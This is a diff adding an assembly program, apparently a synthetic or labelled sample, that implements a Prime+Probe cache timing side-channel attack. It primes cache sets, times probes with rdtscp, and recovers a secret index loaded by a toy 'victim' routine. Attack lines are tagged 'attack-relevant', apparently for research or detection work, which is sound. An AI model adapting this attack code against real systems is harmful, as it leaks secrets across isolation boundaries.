@@ -1,0 +1,104 @@
+; exported from program 'PP-Jzhang'
+.word 0x20000000 0x7
+.entry main
+main:
+  xor r15, r15
+  mov rcx, 4
+round_loop:
+  mov rdi, 0
+prime_slot_loop:
+  mov rax, rdi   ; attack-relevant
+  shl rax, 11   ; attack-relevant
+  lea rsi, [rax+1073750016]   ; attack-relevant
+  mov rdx, 0   ; attack-relevant
+prime_way_loop:
+  mov r11, rdx   ; attack-relevant
+  and r11, 15   ; attack-relevant
+  shl r11, 16   ; attack-relevant
+  mov rbx, [rsi+r11]   ; attack-relevant
+  mov rbx, [rsi+r11+65536]   ; attack-relevant
+  mov rbx, [rsi+r11+131072]   ; attack-relevant
+  mov rbx, [rsi+r11+196608]   ; attack-relevant
+  add rdx, 4   ; attack-relevant
+  cmp rdx, 16   ; attack-relevant
+  jl prime_way_loop   ; attack-relevant
+  inc rdi
+  cmp rdi, 16
+  jl prime_slot_loop
+  lfence
+  lea rsi, [1073750016]
+  rdtscp r8
+  mov rdx, 0
+calib_way_loop:
+  mov r11, rdx
+  and r11, 15
+  shl r11, 16
+  mov rbx, [rsi+r11]
+  inc rdx
+  cmp rdx, 16
+  jl calib_way_loop
+  rdtscp r9
+  sub r9, r8
+  mov [805307384], r9
+  call victim
+  mov rdi, 0
+probe_slot_loop:
+  mov rax, rdi   ; attack-relevant
+  shl rax, 11   ; attack-relevant
+  lea rsi, [rax+1073750016]   ; attack-relevant
+  mov r10, 0   ; attack-relevant
+  mov rdx, 0   ; attack-relevant
+probe_way_loop:
+  mov r11, rdx   ; attack-relevant
+  and r11, 15   ; attack-relevant
+  shl r11, 16   ; attack-relevant
+  rdtscp r8   ; attack-relevant
+  mov rbx, [rsi+r11]   ; attack-relevant
+  rdtscp r9   ; attack-relevant
+  sub r9, r8   ; attack-relevant
+  add r10, r9   ; attack-relevant
+  inc rdx   ; attack-relevant
+  cmp rdx, 16   ; attack-relevant
+  jl probe_way_loop   ; attack-relevant
+  mov [r15+rdi*8+805307392], r10   ; attack-relevant
+  inc rdi
+  cmp rdi, 16
+  jl probe_slot_loop
+  mov rdi, 0
+  mov rbx, -1
+  mov rdx, 0
+roundmax_loop:
+  mov rax, [r15+rdi*8+805307392]
+  cmp rax, rbx
+  jle roundmax_next
+  mov rbx, rax
+  mov rdx, rdi
+roundmax_next:
+  inc rdi
+  cmp rdi, 16
+  jl roundmax_loop
+  mov rax, [r15+rdx*8+805306368]
+  inc rax
+  mov [r15+rdx*8+805306368], rax
+  dec rcx
+  jne round_loop
+  mov rdi, 0
+  mov rbx, -1
+  mov rdx, 0
+argmax_loop:
+  mov rax, [r15+rdi*8+805306368]
+  cmp rax, rbx
+  jle argmax_next
+  mov rbx, rax
+  mov rdx, rdi
+argmax_next:
+  inc rdi
+  cmp rdi, 16
+  jl argmax_loop
+  mov [805308416], rdx
+  hlt
+victim:
+  mov rax, [536870912]   ; attack-relevant
+  imul rax, 2048   ; attack-relevant
+  mov rbx, [rax+1610620928]   ; attack-relevant
+  ret
